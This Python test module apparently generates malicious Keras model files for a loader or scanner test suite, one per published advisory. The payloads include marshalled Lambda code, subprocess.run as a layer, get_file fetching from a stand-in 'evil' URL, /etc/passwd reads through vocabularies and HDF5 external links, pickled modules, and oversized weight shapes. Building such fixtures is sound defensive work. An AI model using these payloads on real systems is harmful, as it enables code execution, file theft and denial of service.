"""More ways to run code or read files while a Keras model is loaded: those of the published
advisories by their names, and those that a reader of descriptions invites.

Each is (name, bytes, what is expected), as in ``model_files``.
"""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Iterator

import h5py

from tests.corpus.model_files import (
    EITHER,
    ELSEWHERE,
    LAMBDA,
    OPENS,
    PARTS,
    UNPACKED,
    _code,
    _function,
    _object,
    _weights,
    good_h5,
    instead,
    layer_of,
    setting,
    with_config,
)

URL = "http://127.0.0.1:9/evil"


def h5_with_config(change: Callable[[dict], object]) -> bytes:
    """The good .h5 model, its description changed."""
    out = io.BytesIO(good_h5())
    with h5py.File(out, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        changed = change(config)
        file.attrs["model_config"] = json.dumps(config if changed is None else changed)
    return out.getvalue()


def h5_layer(name: str, /, **changes: object) -> bytes:
    return h5_with_config(lambda config: layer_of(config, name).update(changes))


def h5_setting(name: str, /, **changes: object) -> bytes:
    return h5_with_config(lambda config: layer_of(config, name)["config"].update(changes))


def h5_attribute(name: str, value: object) -> bytes:
    out = io.BytesIO(good_h5())
    with h5py.File(out, "r+") as file:
        file.attrs[name] = value
    return out.getvalue()


def advisories() -> Iterator[tuple[str, bytes, str]]:
    """What was published, one by one."""
    marshalled = {"class_name": "__lambda__", "config": {"code": _code()}}
    old = {"name": "x", "function": [_code(), None, None], "function_type": "lambda"}
    call = {"name": "x", "function": _function("keras.utils", "get_file")}
    yield "CVE-2024-3660: marshalled Lambda", _lambda({"function": marshalled}), LAMBDA
    yield "CVE-2025-1550: any function as a layer", _called("subprocess", "run"), PARTS
    yield "CVE-2025-8747: get_file as a layer", _called("keras.utils", "get_file"), PARTS
    yield "CVE-2025-8747: get_file in a Lambda", _lambda(call), LAMBDA
    for name in ("keras.config", "keras.src.saving.serialization_lib"):
        data = _called(name, "enable_unsafe_deserialization")
        yield f"CVE-2025-9906: unsafe mode by {name}", data, PARTS
    data = _called("keras.src.backend.common.global_state", "set_global_attribute")
    yield "CVE-2025-9906: the switch itself", data, PARTS
    data = h5_layer("flatten", class_name="Lambda", config=old)
    yield "CVE-2025-9905: Lambda in .h5", data, LAMBDA
    nested = {"name": "m", "layers": [{"class_name": "Lambda", "config": old}]}
    data = h5_layer("flatten", class_name="Sequential", config=nested)
    yield "CVE-2025-9905: Lambda deep in .h5", data, LAMBDA
    wrapped = {"name": "t", "layer": {"class_name": "Lambda", "config": old}}
    data = h5_layer("flatten", class_name="TimeDistributed", config=wrapped)
    yield "CVE-2025-9905: wrapped Lambda in .h5", data, LAMBDA
    for source in ("/etc/passwd", "file:///etc/passwd", URL, "gs://evil/x", "hf://evil/x"):
        config = {"name": "x", "vocabulary": source}
        data = instead("scale", class_name="StringLookup", config=config)
        yield f"CVE-2025-12058: vocabulary {source}", data, PARTS
    for name in ("IndexLookup", "IntegerLookup", "TextVectorization"):
        config = {"name": "x", "vocabulary": "/etc/passwd", "max_tokens": 9}
        data = instead("scale", class_name=name, config=config, module="keras.src.layers")
        yield f"CVE-2025-12058: {name}", data, PARTS
    tar = {"name": "x", "function": _function("keras.src.utils.file_utils", "extract_archive")}
    yield "CVE-2025-12060: archives unpacked", _lambda(tar), LAMBDA
    pickled = {"name": "x", "module": {"class_name": "__bytes__", "config": {"value": "gASV"}}}
    data = instead("scale", class_name="TorchModuleWrapper", config=pickled)
    yield "CVE-2025-49655: pickle in TorchModuleWrapper", data, PARTS
    config = {"name": "x", "filepath": "/tmp/evil", "call_endpoint": "serve"}
    for module in ("keras.layers", "keras.src.export.tfsm_layer"):
        data = instead("scale", module=module, class_name="TFSMLayer", config=config)
        yield f"CVE-2026-1462: TFSMLayer of {module}", data, PARTS
    yield "CVE-2026-0897: petabytes of shape", _weight_of((50_000_000, 50_000_000)), UNPACKED
    yield "CVE-2026-0897: just under Keras's limit", _weight_of((1_073_741_823,)), UNPACKED
    yield "CVE-2026-1669: storage elsewhere", _kernel_elsewhere("external"), ELSEWHERE
    yield "CVE-2026-12480: virtual array", _kernel_elsewhere("virtual"), ELSEWHERE
    yield "CVE-2026-12480: virtual array in .h5", _kernel_elsewhere("virtual", True), ELSEWHERE
    yield "external link in .h5", _kernel_elsewhere("link", True), ELSEWHERE
    config = {"name": "x", "function": marshalled}
    unset = {"name": "s", "layers": [_object("keras.layers", "Lambda", config)]}
    data = instead("scale", class_name="Sequential", config=unset)
    yield "CVE-2026-12481: Lambda where the mode is unset", data, LAMBDA


def _lambda(config: dict) -> bytes:
    return instead("scale", class_name="Lambda", config={"name": "x", **config})


def _called(module: str, name: str) -> bytes:
    """A function in the place of a layer, with arguments in its inbound node."""
    given = [{"args": ["/tmp/cnnviz-was-here"], "kwargs": {"origin": URL}}]
    return with_config(
        lambda config: config["config"]["layers"].append(
            _function(module, name, inbound_nodes=given, name="x")
        )
    )


def _weight_of(shape: tuple[int, ...]) -> bytes:
    def fill(file: h5py.File) -> None:
        found = file["layers/dense/vars"]
        del found["0"]
        chunks = tuple(min(side, 512) for side in shape)
        found.create_dataset("0", shape, "f4", chunks=chunks, fillvalue=1.0)

    return _weights(fill)


def _kernel_elsewhere(how: str, legacy: bool = False) -> bytes:
    def fill(file: h5py.File) -> None:
        where = ("model_weights", "dense") if legacy else ("layers/dense/vars", "0")
        group, name = file[where[0]], where[1]
        del group[name]
        if how == "external":
            group.create_dataset(name, (10,), "u1", external=[("/etc/passwd", 0, 10)])
        elif how == "link":
            group[name] = h5py.ExternalLink("/etc/passwd", "/")
        else:
            layout = h5py.VirtualLayout((10,), "f4")
            layout[:] = h5py.VirtualSource("/etc/passwd", "x", (10,))
            group.create_virtual_dataset(name, layout)

    if not legacy:
        return _weights(fill)
    out = io.BytesIO(good_h5())
    with h5py.File(out, "r+") as file:
        fill(file)
    return out.getvalue()


def looked_up_by_name() -> Iterator[tuple[str, bytes, str]]:
    """Names that look like others, and settings that Keras looks up by their text."""
    for name in (
        "D\u0435nse",  # a Cyrillic letter
        "\uff2cambda",  # a wide one
        "Lambda\u200b",
        " Lambda",
        "lambda",
        "LAMBDA",
        "Lambda\0",
        "keras.layers.Dense",
        "Dense()",
        "__import__('os').system('true')",
        "x" * 1_000_000,
        "",
        "function",
        "__typespec__",
        "__bytes__",
        "type",
        "AugMix",
        "CutMix",
        "MixUp",
        "FeatureSpace",
        "DataLayer",
        "TorchModuleWrapper",
        "HashedCrossing",
        "STFTSpectrogram",
        "ReversibleEmbedding",
        "MelSpectrogram",
    ):
        yield f"class {ascii(name[:30])}", instead("scale", class_name=name), PARTS
        if name not in ("", "function"):
            data = h5_layer("flatten", class_name=name)
            yield f"class {ascii(name[:30])} in .h5", data, PARTS
    for value in (["Lambda"], {"x": 1}, 7, None, True):
        data = instead("scale", class_name=value)
        yield f"class name {value!r}", data, EITHER
    for module in (
        "keras.src.layers.core.lambda_layer",
        "keras.layers.core",
        "keras.src.layers",
        "tf_keras.layers",
    ):
        yield f"Lambda of {module}", instead("scale", module=module, class_name="Lambda"), LAMBDA
    for module in ("keras_hub.layers", "keras_cv.layers", "keras_nlp.layers", "keras\0.layers"):
        yield f"Dense of {module!a}", instead("dense", module=module), PARTS
    for key in ("activation", "kernel_initializer", "kernel_regularizer", "kernel_constraint"):
        for name in (
            "deserialize",
            "os.system",
            "evil>thing",
            "get_file",
            "__main__.f",
            "Callback",
        ):
            yield f"text {name} as {key}", setting("conv", **{key: name}), PARTS
            yield f"text {name} as {key} in .h5", h5_setting("dense", **{key: name}), PARTS
    yield (
        "any text that is a function of Keras's",
        h5_setting("flatten", data_format="serialize"),
        PARTS,
    )
    yield "the same in a name", h5_setting("flatten", name="serialize"), EITHER
    for name in ("serialize", "deserialize", "add", "concatenate"):
        data = h5_layer("flatten", class_name=name, config={"config": {}})
        yield f"function {name} as a class in .h5", data, PARTS
    thing = _object(None, "Custom") | {"registered_name": "Custom"}
    yield "registered under a plain name", setting("conv", kernel_initializer=thing), PARTS
    policy = _object("keras", "QuantizedDTypePolicy", {"mode": "int8"})
    yield "quantised kind of numbers", setting("dense", dtype=policy), PARTS
    for dtype in ("int8_from_float32", "float8_from_float32", "float16", "mixed_float16", "evil"):
        yield f"numbers as {dtype}", setting("dense", dtype=dtype), EITHER
    inner = {"optimizer": "adam", "loss": _object("mine", "Loss"), "metrics": None}
    yield "code in a part's loss", _nested(inner), PARTS
    inner = {"optimizer": _object("keras.optimizers", "Adam", {}), "loss": "mse", "metrics": None}
    yield "a part that was trained on its own", _nested(inner), OPENS


def _nested(compiled: dict) -> bytes:
    """The good model with a part that is a compiled network."""
    layer = _object("keras.layers", "Rescaling", {"name": "r", "scale": 0.1, "offset": 0.0})
    start = _object("keras.layers", "InputLayer", {"batch_shape": [None, 8, 8, 1], "name": "i"})
    config = {"name": "part", "layers": [start, layer]}
    return instead(
        "scale", module="keras", class_name="Sequential", config=config, compile_config=compiled
    )


def attacks() -> Iterator[tuple[str, bytes, str]]:
    for group in (advisories, looked_up_by_name):
        yield from group()
